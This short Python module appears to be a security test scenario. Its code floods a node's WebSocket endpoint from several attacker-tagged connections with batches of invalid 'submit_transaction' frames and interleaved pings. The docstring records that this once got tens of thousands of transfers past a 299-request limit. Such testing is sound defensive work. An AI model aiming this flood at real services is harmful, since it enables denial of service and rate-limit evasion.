"""One address submits a bad transfer over WebSockets as fast as it can, and pings in between.

Before: 57,380 transfers in 5 s were validated, where requests had been limited to 299.
"""

import json
import time
from contextlib import suppress

import wire

SIZES = {"small": 2, "full": 8}


def run(node, size, stop):
    message = wire.text_frame(json.dumps({"submit_transaction": "00" * 160})) * 50
    streams = []
    while not stop.is_set():
        for stream in list(streams):
            try:
                stream.setblocking(False)
                with suppress(BlockingIOError):
                    stream.send(message + b"\x89\x80\x01\x02\x03\x04")
                with suppress(BlockingIOError):
                    if not stream.recv(65536):
                        raise ConnectionError
            except OSError:
                streams.remove(stream)
        while len(streams) < size and not stop.is_set():
            with suppress(OSError):
                streams.append(wire.websocket(node.api, "/v1/ws", wire.ATTACKER))
            stop.wait(0.01)
        time.sleep(0.0005)
